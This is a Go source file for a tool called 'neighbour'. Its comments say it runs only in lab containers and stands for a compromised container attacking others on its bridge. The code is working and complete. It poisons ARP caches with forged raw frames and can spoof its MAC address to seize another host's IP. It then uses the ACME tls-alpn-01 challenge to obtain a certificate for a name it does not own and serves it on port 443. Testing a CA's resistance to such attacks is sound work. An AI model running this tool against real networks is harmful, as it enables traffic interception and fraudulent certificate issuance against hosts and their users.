// Neighbour is what a container that was taken over tries against the others on its bridge. It runs in the lab's
// containers, and only there.
//
//	neighbour take [-mac MAC] NAME IP CA-URL SECONDS
//
// takes the address IP away from the container that has it, by forged ARP answers and, with -mac, by forging the
// source of its frames, orders a certificate for NAME by ACME, and serves it on port 443. It prints
// "issued NAME" and serves until its time is over, or says on stderr why it got nothing, and exits with 1.
//
//	neighbour order CA-URL IDENTIFIER...
//
// places an order for each identifier, and prints "accepted IDENTIFIER" or "refused IDENTIFIER: REASON".
//
//	neighbour listen PORT...
//
// takes TCP connections on each port, and says "hello".
package main

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"errors"
	"fmt"
	"log"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"sync"
	"time"

	"golang.org/x/crypto/acme"
	"golang.org/x/sys/unix"
)

const iface = "eth0"

func main() {
	log.SetFlags(0)
	log.SetPrefix("neighbour: ")
	args := os.Args[1:]
	var err error
	switch {
	case len(args) > 2 && args[0] == "order":
		err = order(args[1], args[2:])
	case len(args) > 1 && args[0] == "listen":
		err = listen(args[1:])
	case len(args) == 7 && args[0] == "take" && args[1] == "-mac":
		if err = exec.Command("ip", "link", "set", iface, "address", args[2]).Run(); err == nil {
			err = take(args[3], args[4], args[5], args[6])
		}
	case len(args) == 5 && args[0] == "take":
		err = take(args[1], args[2], args[3], args[4])
	default:
		err = errors.New("usage: neighbour take [-mac MAC] NAME IP CA-URL SECONDS, " +
			"neighbour order CA-URL IDENTIFIER..., or neighbour listen PORT... of TCP")
	}
	if err != nil {
		log.Fatal(err)
	}
}

func listen(ports []string) error {
	failed := make(chan error)
	for _, port := range ports {
		listener, err := net.Listen("tcp4", ":"+port)
		if err != nil {
			return err
		}
		go func() {
			for {
				conn, err := listener.Accept()
				if err != nil {
					failed <- err
					return
				}
				fmt.Fprintln(conn, "hello")
				conn.Close()
			}
		}()
	}
	return <-failed
}

// client returns an ACME client with an account. It does not care whom it talks to.
func client(ctx context.Context, caURL string, from net.IP) (*acme.Client, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	dialer := &net.Dialer{Timeout: 2 * time.Second}
	if from != nil {
		dialer.LocalAddr = &net.TCPAddr{IP: from}
	}
	c := &acme.Client{
		Key:          key,
		DirectoryURL: caURL + "/acme/acme/directory",
		HTTPClient: &http.Client{
			Timeout: 5 * time.Second,
			Transport: &http.Transport{DialContext: dialer.DialContext,
				TLSClientConfig: &tls.Config{InsecureSkipVerify: true}},
		},
		RetryBackoff: func(n int, _ *http.Request, _ *http.Response) time.Duration {
			if n > 3 {
				return -1
			}
			return 100 * time.Millisecond
		},
	}
	_, err = c.Register(ctx, &acme.Account{}, acme.AcceptTOS)
	return c, err
}

func order(caURL string, identifiers []string) error {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	c, err := client(ctx, caURL, nil)
	if err != nil {
		return fmt.Errorf("registering with %s: %w", caURL, err)
	}
	for _, name := range identifiers {
		id := acme.AuthzID{Type: "dns", Value: name}
		if _, err := netip.ParseAddr(name); err == nil {
			id.Type = "ip"
		}
		o, err := c.AuthorizeOrder(ctx, []acme.AuthzID{id})
		if err == nil {
			_, err = challenge(ctx, c, o)
		}
		if err != nil {
			fmt.Printf("refused %s: %v\n", name, err)
		} else {
			fmt.Printf("accepted %s\n", name)
		}
	}
	return nil
}

func challenge(ctx context.Context, c *acme.Client, o *acme.Order) (*acme.Challenge, error) {
	for _, url := range o.AuthzURLs {
		authz, err := c.GetAuthorization(ctx, url)
		if err != nil {
			return nil, err
		}
		for _, ch := range authz.Challenges {
			if ch.Type == "tls-alpn-01" {
				return ch, nil
			}
		}
	}
	return nil, errors.New("no challenge tls-alpn-01 is offered")
}

func take(name, ip, caURL, seconds string) error {
	n, err := strconv.Atoi(seconds)
	if err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Duration(n)*time.Second)
	defer cancel()
	if err := exec.Command("ip", "address", "replace", ip+"/32", "dev", iface).Run(); err != nil {
		return fmt.Errorf("ip address replace %s/32: %w", ip, err)
	}
	poisoning := make(chan error, 1)
	go func() { poisoning <- poison(ctx, net.ParseIP(ip).To4()) }()
	s := &server{}
	if err := s.listen(net.JoinHostPort(ip, "443")); err != nil {
		return err
	}
	last := errors.New("no time")
	for attempt := 0; ctx.Err() == nil; attempt++ {
		from := net.ParseIP(ip) // what a filter of the CA may ask for
		if attempt%2 == 0 {
			from = nil
		}
		err := s.obtain(ctx, caURL, name, from)
		if err == nil {
			fmt.Println("issued", name)
			<-ctx.Done()
			return nil
		}
		last = err
		select {
		case err := <-poisoning:
			if err != nil {
				return err
			}
		case <-time.After(500 * time.Millisecond):
		}
	}
	return fmt.Errorf("no certificate for %s: %w", name, last)
}

// poison tells everybody again and again that an address is here.
func poison(ctx context.Context, ip net.IP) error {
	link, err := net.InterfaceByName(iface)
	if err != nil {
		return err
	}
	arp := binary.BigEndian.Uint16(binary.NativeEndian.AppendUint16(nil, unix.ETH_P_ARP))
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(arp))
	if err != nil {
		return fmt.Errorf("raw socket: %w", err)
	}
	defer unix.Close(fd)
	to := &unix.SockaddrLinklayer{Ifindex: link.Index, Protocol: arp, Halen: 6}
	all := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	for ctx.Err() == nil {
		for _, op := range []uint16{1, 2} {
			frame := slices.Concat([]byte(all), link.HardwareAddr, []byte{8, 6, 0, 1, 8, 0, 6, 4})
			frame = binary.BigEndian.AppendUint16(frame, op)
			frame = slices.Concat(frame, link.HardwareAddr, []byte(ip), all, []byte(ip))
			if err := unix.Sendto(fd, frame, 0, to); err != nil {
				return fmt.Errorf("sending a forged frame: %w", err)
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
	return nil
}

// A server serves what was issued, and the challenge meanwhile.
type server struct {
	mu                sync.Mutex
	issued, challenge *tls.Certificate
}

func (s *server) set(issued, challenge *tls.Certificate) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.issued, s.challenge = issued, challenge
}

func (s *server) listen(address string) error {
	listener, err := tls.Listen("tcp", address, &tls.Config{
		NextProtos: []string{"http/1.1", acme.ALPNProto},
		GetCertificate: func(hello *tls.ClientHelloInfo) (*tls.Certificate, error) {
			s.mu.Lock()
			defer s.mu.Unlock()
			cert := s.issued
			if slices.Contains(hello.SupportedProtos, acme.ALPNProto) {
				cert = s.challenge
			}
			if cert == nil {
				return nil, errors.New("nothing to show")
			}
			return cert, nil
		},
	})
	if err != nil {
		return err
	}
	go http.Serve(listener, http.HandlerFunc(func(w http.ResponseWriter,
		_ *http.Request) {
		fmt.Fprintln(w, "neighbour")
	}))
	return nil
}

func (s *server) obtain(ctx context.Context, caURL, name string, from net.IP) error {
	ctx, cancel := context.WithTimeout(ctx, 8*time.Second)
	defer cancel()
	c, err := client(ctx, caURL, from)
	if err != nil {
		return err
	}
	o, err := c.AuthorizeOrder(ctx, acme.DomainIDs(name))
	if err != nil {
		return err
	}
	ch, err := challenge(ctx, c, o)
	if err != nil {
		return err
	}
	cert, err := c.TLSALPN01ChallengeCert(ch.Token, name)
	if err != nil {
		return err
	}
	s.set(nil, &cert)
	if _, err := c.Accept(ctx, ch); err != nil {
		return err
	}
	if o, err = c.WaitOrder(ctx, o.URI); err != nil {
		return err
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return err
	}
	request, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{DNSNames: []string{name}}, key)
	if err != nil {
		return err
	}
	chain, _, err := c.CreateOrderCert(ctx, o.FinalizeURL, request, true)
	if err != nil {
		return err
	}
	s.set(&tls.Certificate{Certificate: chain, PrivateKey: key}, nil)
	return nil
}
